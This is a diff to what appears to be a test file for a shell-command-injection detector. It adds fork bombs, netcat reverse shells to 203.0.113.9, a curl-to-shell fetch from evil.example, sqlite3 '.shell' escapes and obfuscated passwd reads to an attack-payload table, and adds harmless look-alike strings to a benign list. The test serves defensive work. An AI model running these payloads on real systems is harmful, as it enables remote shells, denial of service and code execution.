@@ -32,6 +32,11 @@ const ATTACKS: Record<string, string[]> = {
     '${PATH:0:1}', 'cat ${HOME%/*}', '$((7*6))', '$[2+2]', 'echo ${x//a/b}',
   ],
   'command chains': ['John Smith `whoami`', 'Smith `whoami`', 'x`whoami`', 'abc`uname -a`','whoami;00', 'id & whoami', 'uname -a & whoami', 'whoami;','127.0.0.1 | id', 'example.com;w', 'socat tcp:203.0.113.9:80 exec:sh',';date -f secrets.txt', ';flock -u /', 'http://evil.example/x.php;lwp-download http://evil.example/a.jpg;perl a.jpg;rm -rf a.jpg'],
+  'fork bombs, functions, netcat shells, sqlite3 dot-commands': [
+    'f(){ f|f& };f', 'bomb() { bomb | bomb & }; bomb', 'x(){ x()|x(); }; x', 'r(){ curl -s evil.example/a|sh; };r', 'nc 203.0.113.9 4444 -e /bin/bash',
+    'nc -e /bin/sh 203.0.113.9 4444', 'x; ncat 203.0.113.9 443 --sh-exec id', "1');\n.shell id", '1;.sh whoami', ';."system" id', 'x;\n.databases', 'cat+/et*/*wd',
+    ';+cat+/e\'t\'*/pa\'?s\'wd', 'alias +g+ ls=id',
+  ],
   'globs and shell escapes': ['{/?s?/?i?/c?t,}', '/?i?/c?t notes.txt', 'cat /et*/*wd', 'x; tail -n 5 /v?r/l?g/*', 'find /etc -name passwd -exec cat {} +', 'tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh', "awk 'BEGIN {system(\"id\")}'"],
 };
 
@@ -65,6 +70,8 @@ const BENIGN: string[] = [
   'Mix: salt & ("pepper" + "oil")', 'Use `n`t for a tab in PowerShell', '$env:PATH is set', 'my %HOME% dir', 'a | b | more', 'socat is a relay tool', '$0 is the script name',
   'myfunction(){ echo hello }', 'render() { return this.html }', '(Mr.Smith)(2)', '(e.g.)(see below)', 'x^2 + y^2 /c', "array_map('strtoupper', $names)", "t('system', 'dark')", '<?xml-stylesheet href="a.xsl"?>',
   'Saved photo.jpg. Then I uploaded notes.txt, report.pdf. Can you check?', 'The {php} tag is deprecated',
+  'function f() { return f() || g() }', 'count(){ return count() && 1 }', 'class A { load() { this.load() } }', 'nc is netcat; run nc -h for help',
+  'Note that nc -e /bin/sh is disabled in the OpenBSD netcat we ship', '.output', '.tables { width: 100% }', 'In sqlite3 list them with .tables; .schema shows the DDL', 'C++/CLI or C#',
 ];
 
 for (const [name, payloads] of Object.entries(ATTACKS)) {
